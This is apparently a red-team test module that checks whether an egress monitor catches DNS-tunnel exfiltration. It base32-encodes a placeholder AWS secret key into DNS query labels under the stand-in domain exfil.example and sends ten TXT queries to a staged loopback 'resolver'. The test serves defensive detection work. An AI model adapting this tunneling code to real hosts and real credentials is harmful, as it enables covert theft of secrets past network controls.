"""Round 6: DNS-tunnel exfiltration: the secret as query labels, 10 queries to a new "resolver" on port 53.

Egress checks often wave DNS through (every process resolves names).  The
destination is a loopback address nobody configured as a resolver
(127.0.6.53:53, staged outside the tree), so this is egress to a new
destination whatever its port.
"""

from __future__ import annotations

import base64
import socket
import struct
from pathlib import Path
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 6
STAGE = True
EXPECT = ("L4",)
IP, PORT = "127.0.6.53", 53


def _count(work: str) -> Path:
    return Path(work).parent / "daemons" / "r6-dns.count"


def _pid(work: str) -> Path:
    return Path(work).parent / "daemons" / "r6-dns.pid"


def stage(args: dict[str, Any]) -> None:
    c = _count(args["work"])
    rt.stage_daemon(
        rt.sink_argv("dgram", "17", IP, str(PORT), str(c)),
        _pid(args["work"]),
        lambda: Path(str(c) + ".port").exists(),
    )


def unstage(args: dict[str, Any]) -> None:
    rt.unstage_daemon(_pid(args["work"]))


def _query(qid: int, labels: list[str]) -> bytes:
    """A DNS query (RD set) for TXT records of ``labels`` + exfil.example."""
    head = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    name = b"".join(bytes([len(x)]) + x.encode() for x in [*labels, "exfil", "example"]) + b"\0"
    return head + name + struct.pack(">HH", 16, 1)


def run(args: dict[str, Any]) -> None:
    c = _count(args["work"])
    before = rt.wait_count(c, 0, 0)
    secret = b"AWS_SECRET_ACCESS_KEY=h7redteam/round6/dns+tunnel/" * 6
    enc = base64.b32encode(secret).decode().rstrip("=").lower()
    chunks = [enc[i : i + 50] for i in range(0, len(enc), 50)][:10]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        t = rt.now()
        sent = sum(
            s.sendto(_query(0x4800 + i, [f"{i:02d}", ch]), (rt.loopback(IP), PORT))
            for i, ch in enumerate(chunks)
        )
    got = rt.wait_count(c, before + sent) - before
    rt.report(
        t, got >= sent > 0, f"{len(chunks)} DNS TXT queries to {IP}:{PORT}: sent {sent}, receiver got {got}"
    )


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
